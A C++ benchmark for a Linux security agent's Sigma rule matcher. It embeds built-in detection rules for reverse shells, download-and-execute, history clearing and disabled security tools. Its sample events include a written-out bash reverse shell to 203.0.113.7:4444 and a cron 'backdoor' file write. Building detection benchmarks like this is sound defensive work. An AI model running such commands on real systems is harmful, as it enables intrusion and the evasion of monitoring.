// Sigma rule matching per event: the whole SigmaHQ Linux set (../shared/sigma,
// when present) or a built-in set of rules written like SigmaHQ's, against a
// mix of ordinary execs, file writes and connects with a few hits.
//   build/tests/bench/vigil_bench --benchmark_filter=Sigma
// "allocs" must be 0; "evaluated" is how many rules ran per event after the
// index (the rest never ran); "rules" is how many were loaded.
#include <benchmark/benchmark.h>

#include <filesystem>
#include <string>
#include <vector>

#include "bench_allocs.h"
#include "vigil/agent/sigma.h"

namespace {

using namespace vigil::agent::sigma;

// SigmaHQ's style: endswith lists on Image, contains lists on the command
// line, filters, a regex, a cidr, keyword-free. Used when the snapshot is absent.
constexpr const char* kBuiltinRules[] = {
    R"(title: Decode Base64 Encoded Text
id: b-01
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: '/base64'
        CommandLine|contains: '-d'
    condition: selection
level: low)",
    R"(title: Shell via AWK
id: b-02
logsource: {product: linux, category: process_creation}
detection:
    selection_img:
        Image|endswith: ['/awk', '/gawk', '/mawk', '/nawk']
        CommandLine|contains: 'BEGIN {system'
    selection_cli:
        CommandLine|contains: ['/bin/bash', '/bin/dash', '/bin/fish', '/bin/sh', '/bin/zsh']
    condition: all of selection_*
level: high)",
    R"(title: Reverse shell via dev tcp
id: b-03
logsource: {product: linux, category: process_creation}
detection:
    selection:
        CommandLine|contains: ['/dev/tcp/', '/dev/udp/']
    condition: selection
level: high)",
    R"(title: Netcat reverse shell
id: b-04
logsource: {product: linux, category: process_creation}
detection:
    selection_nc:
        Image|endswith: ['/nc', '/ncat', '/netcat']
    selection_flags:
        CommandLine|contains: [' -c ', ' -e ']
    selection_shell:
        CommandLine|contains: [' sh', ' bash', '/bin/sh', '/bin/bash']
    condition: all of selection_*
level: high)",
    R"(title: Download to tmp and execute
id: b-05
logsource: {product: linux, category: process_creation}
detection:
    selection_tool:
        Image|endswith: ['/curl', '/wget']
    selection_tmp:
        CommandLine|contains: ['/tmp/', '/dev/shm/']
    selection_exec:
        CommandLine|contains: ['| sh', '| bash', '|sh', '|bash']
    condition: all of selection_*
level: high)",
    R"(title: Crontab modification
id: b-06
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: '/crontab'
        CommandLine|contains: ' -r'
    condition: selection
level: medium)",
    R"(title: Clear history
id: b-07
logsource: {product: linux, category: process_creation}
detection:
    selection:
        CommandLine|contains:
            - 'history -c'
            - 'rm ~/.bash_history'
            - 'cat /dev/null > ~/.bash_history'
            - 'unset HISTFILE'
            - 'export HISTFILESIZE=0'
    condition: selection
level: high)",
    R"(title: Capabilities discovery
id: b-08
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: '/getcap'
        CommandLine|contains|all: [' -r ', ' /']
    condition: selection
level: low)",
    R"(title: Security tools disabled
id: b-09
logsource: {product: linux, category: process_creation}
detection:
    selection_iptables:
        Image|endswith: ['/service', '/systemctl', '/chkconfig']
        CommandLine|contains: ['iptables', 'ip6tables', 'firewalld', 'ufw', 'apparmor', 'auditd']
    selection_stop:
        CommandLine|contains: ['stop', 'disable', 'off']
    condition: all of selection_*
level: medium)",
    R"(title: Suspicious long command line
id: b-10
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: ['/bash', '/sh', '/dash']
        CommandLine|re: '(?:[A-Za-z0-9+/]{4}){40,}'
    condition: selection
level: medium)",
    R"(title: Interactive shell from web server
id: b-11
logsource: {product: linux, category: process_creation}
detection:
    selection:
        ParentImage|endswith: ['/nginx', '/httpd', '/apache2', '/php-fpm', '/java', '/node']
        Image|endswith: ['/sh', '/bash', '/dash', '/zsh']
    filter_main:
        CommandLine|contains: ['/usr/share/', 'logrotate']
    condition: selection and not 1 of filter_main*
level: high)",
    R"(title: Sudo privilege escalation attempt
id: b-12
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: '/sudo'
        CommandLine|contains: ['-u#-1', '-u#4294967295']
    condition: selection
level: critical)",
    R"(title: Python spawning a shell
id: b-13
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|contains: '/python'
        CommandLine|contains|all: ['import pty', 'spawn(']
    condition: selection
level: high)",
    R"(title: Mount of the host file system
id: b-14
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: '/mount'
        CommandLine|windash|contains: ' -o bind'
    condition: selection
level: medium)",
    R"(title: Base64 shebang
id: b-15
logsource: {product: linux, category: process_creation}
detection:
    selection:
        CommandLine|base64offset|contains: '#!/bin/'
    condition: selection
level: medium)",
    R"(title: Cron file created
id: b-16
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: ['/etc/cron.d/', '/etc/cron.daily/', '/etc/cron.hourly/', '/var/spool/cron/']
    condition: selection
level: medium)",
    R"(title: Sudoers changed
id: b-17
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: '/etc/sudoers.d/'
    condition: selection
level: medium)",
    R"(title: Shell script under profile.d
id: b-18
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|startswith: '/etc/profile.d/'
        TargetFilename|endswith: '.sh'
    condition: selection
level: low)",
    R"(title: Very long file name
id: b-19
logsource: {product: linux, category: file_event}
detection:
    selection:
        TargetFilename|re: '[^/]{100,}$'
    filter_optional:
        TargetFilename|startswith: '/run/systemd/'
    condition: selection and not 1 of filter_optional*
level: low)",
    R"(title: Malware callback ports
id: b-20
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Initiated: 'true'
        DestinationPort: [888, 999, 2200, 2222, 4000, 4444, 6789, 8531, 50501, 51820]
    filter_main_local_ranges:
        DestinationIp|cidr: ['127.0.0.0/8', '10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '::1/128', 'fe80::/10', 'fc00::/7']
    condition: selection and not 1 of filter_main_*
level: high)",
    R"(title: Shell making a connection
id: b-21
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Image|endswith: ['/bash', '/sh', '/dash']
        Initiated: 'true'
    condition: selection
level: high)",
};

struct Sample {
  Category category;
  std::vector<std::pair<Field, std::string>> fields;
};

// What a busy build/web host execs, writes and connects to; 3 of 24 hit.
std::vector<Sample> samples() {
  using F = Field;
  auto exec = [](std::string image, std::string cmd, std::string parent) {
    return Sample{Category::kProcessCreation,
                  {{F::kImage, std::move(image)},
                   {F::kCommandLine, std::move(cmd)},
                   {F::kParentImage, std::move(parent)},
                   {F::kParentCommandLine, "/bin/bash --login"},
                   {F::kCurrentDirectory, "/home/dev/src/project"},
                   {F::kUser, "dev"},
                   {F::kLogonId, "1000"},
                   {F::kProcessId, "48213"},
                   {F::kParentProcessId, "48200"},
                   {F::kUid, "1000"},
                   {F::kEuid, "1000"},
                   {F::kComm, "x"},
                   {F::kEventType, "exec"}}};
  };
  auto write = [](std::string path, std::string image) {
    return Sample{Category::kFileEvent,
                  {{F::kTargetFilename, std::move(path)},
                   {F::kImage, std::move(image)},
                   {F::kProcessId, "48213"},
                   {F::kUser, "dev"},
                   {F::kEventType, "file_write"}}};
  };
  auto connect = [](std::string image, std::string ip, std::string port) {
    return Sample{Category::kNetworkConnection,
                  {{F::kImage, std::move(image)},
                   {F::kDestinationIp, std::move(ip)},
                   {F::kDestinationPort, std::move(port)},
                   {F::kSourceIp, "192.168.1.20"},
                   {F::kSourcePort, "51544"},
                   {F::kInitiated, "true"},
                   {F::kProtocol, "tcp"},
                   {F::kEventType, "connect"}}};
  };
  return {
      exec("/usr/bin/ls", "ls -la --color=auto", "/usr/bin/bash"),
      exec("/usr/bin/git", "git status --porcelain=v2 --branch", "/usr/bin/bash"),
      exec("/usr/bin/python3", "/usr/bin/python3 -m pytest tests/unit -q -x", "/usr/bin/make"),
      exec("/usr/bin/grep", "grep -rn --include=*.cpp TODO src/", "/usr/bin/bash"),
      exec("/usr/bin/curl", "curl -fsSL https://example.org/api/v1/status -o status.json",
           "/usr/bin/bash"),
      exec("/usr/bin/gcc", "gcc -O2 -g -Wall -c src/main.c -o build/main.o", "/usr/bin/make"),
      exec("/usr/bin/find", "find . -name *.o -newer build/stamp -print", "/usr/bin/bash"),
      exec("/usr/bin/systemctl", "systemctl status nginx.service --no-pager", "/usr/bin/bash"),
      exec("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@10.0.4.12 uptime", "/usr/bin/bash"),
      exec("/usr/bin/docker", "docker ps --format {{.Names}}", "/usr/bin/bash"),
      exec("/usr/bin/awk", "awk -F: {print $1} /etc/passwd", "/usr/bin/bash"),
      exec("/usr/bin/sudo", "sudo apt-get update -q", "/usr/bin/bash"),
      exec("/usr/bin/node", "node /srv/app/server.js --port 3000", "/usr/lib/systemd/systemd"),
      exec("/usr/bin/base64", "base64 -d payload.b64", "/usr/bin/bash"),  // hit
      exec("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
           "/usr/sbin/nginx"),  // hit
      write("/home/dev/.cache/pip/http/a/b/c/d/0f2a9b", "/usr/bin/python3"),
      write("/tmp/ccA1b2C3.s", "/usr/bin/gcc"),
      write("/var/log/nginx/access.log", "/usr/sbin/nginx"),
      write("/home/dev/src/project/build/main.o", "/usr/bin/gcc"),
      write("/etc/cron.d/backdoor", "/usr/bin/bash"),  // hit
      connect("/usr/bin/curl", "93.184.216.34", "443"),
      connect("/usr/lib/postgresql/15/bin/postgres", "10.0.0.5", "5432"),
      connect("/usr/bin/ssh", "10.0.4.12", "22"),
      connect("/usr/bin/python3", "2606:4700::6810:84e5", "443"),
  };
}

// The SigmaHQ snapshot when present (and `builtin` is false), else the
// built-in rules; nullptr if a built-in rule does not load.
std::shared_ptr<RuleSet> load(bool builtin, bool& from_sigmahq) {
  const std::filesystem::path root = VIGIL_SIGMAHQ_DIR;
  LoadReport report;
  std::error_code ec;
  from_sigmahq = !builtin && std::filesystem::is_directory(root / "rules", ec);
  if (from_sigmahq) {
    const std::vector<std::filesystem::path> dirs = {
        root / "rules", root / "rules-emerging-threats", root / "rules-threat-hunting"};
    return load_rules(dirs, report);
  }
  auto set = std::make_shared<RuleSet>();
  for (const char* r : kBuiltinRules) {
    set->add_yaml(r, "builtin.yml", report);
  }
  return report.rules_loaded == std::size(kBuiltinRules) ? set : nullptr;
}

std::uint64_t evaluations(const RuleSet& set) {
  std::uint64_t n = 0;
  for (const auto& [info, counters] : set.rules()) {
    n += counters->evaluations.load(std::memory_order_relaxed);
  }
  return n;
}

void run(benchmark::State& state, bool builtin, bool counters) {
  bool from_sigmahq = false;
  const auto set = load(builtin, from_sigmahq);
  if (!set) {
    state.SkipWithError("a built-in rule did not load");
    return;
  }
  set->set_counters_enabled(true);  // to count evaluations below, whatever `counters` is
  const auto data = samples();
  std::vector<RuleEvent> events(data.size());
  for (std::size_t i = 0; i < data.size(); ++i) {
    events[i].clear();
    events[i].category = data[i].category;
    for (const auto& [f, v] : data[i].fields) {
      events[i].set(f, v);
    }
  }
  std::vector<const RuleInfo*> out;
  out.reserve(64);
  std::size_t hits = 0;
  for (const auto& e : events) {  // warm: RE2 builds DFA states on first use
    set->match(e, out);
    hits += out.size();
  }
  const auto evaluated_before = evaluations(*set);
  set->set_counters_enabled(counters);
  std::size_t i = 0;
  {
    const vigil::test::AllocsPerIteration allocs(state);
    for (auto _ : state) {
      set->match(events[i], out);
      benchmark::DoNotOptimize(out.data());
      if (++i == events.size()) {
        i = 0;
      }
    }
  }
  state.SetItemsProcessed(state.iterations());
  state.SetLabel(from_sigmahq ? "SigmaHQ linux" : "built-in rules");
  state.counters["rules"] = static_cast<double>(set->size());
  state.counters["hits/event"] = static_cast<double>(hits) / static_cast<double>(events.size());
  if (counters) {
    state.counters["evaluated"] =
        benchmark::Counter(static_cast<double>(evaluations(*set) - evaluated_before),
                           benchmark::Counter::kAvgIterations);
  }
}

void BM_SigmaMatch(benchmark::State& state) { run(state, false, true); }
BENCHMARK(BM_SigmaMatch);

void BM_SigmaMatchNoCounters(benchmark::State& state) { run(state, false, false); }
BENCHMARK(BM_SigmaMatchNoCounters);

void BM_SigmaMatchBuiltin(benchmark::State& state) { run(state, true, true); }
BENCHMARK(BM_SigmaMatchBuiltin);

// Reading, compiling and indexing the whole set (agent start-up, reload).
void BM_SigmaLoad(benchmark::State& state) {
  bool from_sigmahq = false;
  for (auto _ : state) {
    auto set = load(false, from_sigmahq);
    benchmark::DoNotOptimize(set.get());
  }
  state.SetLabel(from_sigmahq ? "SigmaHQ linux" : "built-in rules");
}
BENCHMARK(BM_SigmaLoad)->Unit(benchmark::kMillisecond);

}  // namespace
